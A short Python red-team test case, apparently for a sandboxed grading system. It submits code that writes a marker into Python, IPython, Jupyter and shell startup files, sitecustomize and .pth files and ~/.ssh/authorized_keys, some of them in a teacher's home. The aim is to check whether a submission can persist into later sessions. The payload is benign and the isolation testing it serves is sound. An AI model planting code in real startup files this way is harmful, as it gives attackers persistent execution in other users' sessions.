"""Files are created that Python and IPython run at every start.

Success: the attack leaves a trace in the home, or in the next student's outputs.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import os, site, sys
        code = "import os\\nos.environ['red-team-was-here'] = '1'\\nprint('red-team-was-here')\\n"
        home = os.path.expanduser("~")
        for place in (home + "/.ipython/profile_default/startup/00.py",
                      "/home/teacher/.ipython/profile_default/startup/00.py",
                      site.getusersitepackages() + "/usercustomize.py",
                      site.getusersitepackages() + "/red.pth",
                      sys.prefix + "/lib/python3.11/site-packages/sitecustomize.py",
                      home + "/.bashrc", home + "/.jupyter/jupyter_config.py",
                      home + "/.config/matplotlib/matplotlibrc", home + "/.ssh/authorized_keys"):
            try:
                os.makedirs(os.path.dirname(place), exist_ok=True)
                open(place, "a").write(code)
            except OSError as error:
                print(error)
    """)
